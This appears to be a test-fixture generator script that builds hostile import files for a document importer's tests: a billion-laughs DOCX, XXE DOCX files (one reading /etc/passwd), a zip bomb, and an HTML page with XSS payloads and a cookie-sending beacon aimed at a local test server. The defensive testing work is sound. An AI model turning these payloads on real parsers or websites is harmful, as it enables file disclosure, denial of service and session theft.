"""Make the hostile import fixtures in tests/data/hostile (the small ones; tests build the big ones).

    .venv/bin/python scripts/make_hostile_fixtures.py

Each builder returns bytes, so the tests can also make a file at test time (the ones that
are large, or that must point at a test server whose port is only known then):
tests/core/importers/conftest.py loads this module by path.
"""
from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO / "tests" / "data" / "fixtures"
OUT = REPO / "tests" / "data" / "hostile"
SERVER = "__SERVER__"  # replaced by the recording test server's http://127.0.0.1:PORT


def _rewrite_docx(replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
                  compresslevel: int = 9) -> bytes:
    """The article.docx fixture with some parts replaced or added."""
    replace, add = replace or {}, add or {}
    src = zipfile.ZipFile(FIXTURES / "article.docx")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as out:
        for info in src.infolist():
            out.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, data in add.items():
            out.writestr(name, data)
    return buf.getvalue()


def _document_with_doctype(doctype: str, body_text: str) -> bytes:
    """A minimal word/document.xml that declares `doctype` and uses an entity in its text."""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f'<w:body><w:p><w:r><w:t>{body_text}</w:t></w:r></w:p></w:body></w:document>').encode()


def billion_laughs_docx() -> bytes:
    """Entity expansion: lol9 expands to 10^9 'lol's if an XML parser resolves entities."""
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                      for i in range(1, 10)]
    doctype = "<!DOCTYPE w:document [\n" + "\n".join(ents) + "\n]>"
    return _rewrite_docx({"word/document.xml": _document_with_doctype(doctype, "&lol9;")})


def xxe_docx(target: str = "file:///etc/passwd") -> bytes:
    """An external entity: a parser that resolves it reads a local file or fetches a URL."""
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{target}">]>'
    return _rewrite_docx({"word/document.xml": _document_with_doctype(doctype, "Leaked: &xxe;")})


def xxe_parameter_entity_docx(target: str) -> bytes:
    """A parameter entity pulling a remote DTD (the out-of-band XXE variant), in a .rels part."""
    doctype = f'<!DOCTYPE Relationships [<!ENTITY % remote SYSTEM "{target}"> %remote;]>'
    rels = (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>').encode()
    return _rewrite_docx({"word/_rels/document.xml.rels": rels})


def zip_bomb_docx(megabytes: int = 60) -> bytes:
    """A Word file with one member that unpacks to `megabytes` MB of zeros (~1000:1)."""
    return _rewrite_docx(add={"word/media/image1.png": bytes(megabytes * 1024 * 1024)})


def many_members_docx(count: int = 5000) -> bytes:
    return _rewrite_docx(add={f"customXml/item{i}.bin": b"" for i in range(count)})


def binary_txt() -> bytes:
    """Random bytes, as a mis-named download or a damaged file would be."""
    return random.Random(1234).randbytes(4096)


def truncated_pdf() -> bytes:
    data = (FIXTURES / "article.pdf").read_bytes()
    return data[: len(data) // 2]


def encrypted_pdf(user_password: str = "secret") -> bytes:
    import pypdf

    reader = pypdf.PdfReader(FIXTURES / "article.pdf")
    writer = pypdf.PdfWriter(clone_from=reader)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def remote_resources_html() -> bytes:
    """A page whose every active or remote feature points at the test server (__SERVER__)."""
    s = SERVER
    return f"""<!DOCTYPE html [<!ENTITY ext SYSTEM "{s}/entity">]>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta http-equiv="refresh" content="0; url={s}/meta-refresh">
  <base href="{s}/base/">
  <title>USA attacks pro-Iranian militias in Iraq</title>
  <link rel="stylesheet" href="{s}/style.css">
  <link rel="preload" href="{s}/preload.js" as="script">
  <link rel="icon" href="{s}/favicon.ico">
  <style>
    @import url("{s}/import.css");
    @font-face {{ font-family: Evil; src: url("{s}/font.woff2") format("woff2"); }}
    body {{ background: url({s}/background.png); font-family: Evil; }}
  </style>
  <script src="{s}/script.js"></script>
  <script>fetch("{s}/fetch"); document.write("INJECTED-BY-SCRIPT"); alert("xss");</script>
</head>
<body onload="fetch('{s}/onload')">
  <iframe src="{s}/iframe.html" width="1" height="1"></iframe>
  <object data="{s}/object.swf"></object><embed src="{s}/embed.swf">
  <article>
    <h1>USA attacks pro-Iranian militias in Iraq</h1>
    <p>Three soldiers are injured in an attack on a US base in Iraq. In response, the US bombed facilities
    belonging to pro-Iranian militias and at the same time warned of an escalation of the conflict in the region.</p>
    <img src="{s}/photo.jpg" srcset="{s}/photo-2x.jpg 2x" onerror="alert('img-onerror')" alt="">
    <p onclick="alert('click')" onmouseover="fetch('{s}/hover')">Following an attack on a base in Iraq that left
    three US soldiers injured, the USA attacked pro-Iranian militias in the country. US Secretary of Defense
    Lloyd Austin stated that US forces had carried out "necessary and appropriate" attacks on three facilities
    used by the paramilitary Kataeb Hezbollah and militia-affiliated groups.</p>
    <p>Iraqi security sources reported that at least one member of a pro-Iranian group had been killed in
    attacks. Another 24 were injured. <a href="javascript:alert('link')">Read the full statement</a>.</p>
    <svg><script>alert("svg")</script><image href="{s}/svg-image.png"/></svg>
    <video src="{s}/video.mp4" poster="{s}/poster.jpg"></video><audio src="{s}/audio.mp3"></audio>
    <form action="{s}/form"><input type="image" src="{s}/input.png"></form>
    <p>Entity in text: &ext;</p>
    <noscript><img src="{s}/noscript.gif"></noscript>
  </article>
  <script>new Image().src = "{s}/beacon?c=" + document.cookie;</script>
</body>
</html>
""".encode()


SMALL = {
    "billion-laughs.docx": billion_laughs_docx,
    "xxe-file.docx": xxe_docx,
    "zip-bomb.docx": zip_bomb_docx,
    "binary.txt": binary_txt,
    "empty.txt": lambda: b"",
    "truncated.pdf": truncated_pdf,
    "encrypted.pdf": encrypted_pdf,
    "remote-resources.html.in": remote_resources_html,
}


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for name, build in SMALL.items():
        (OUT / name).write_bytes(build())
        print(f"{(OUT / name).stat().st_size:>8}  {(OUT / name).relative_to(REPO)}")


if __name__ == "__main__":
    main()
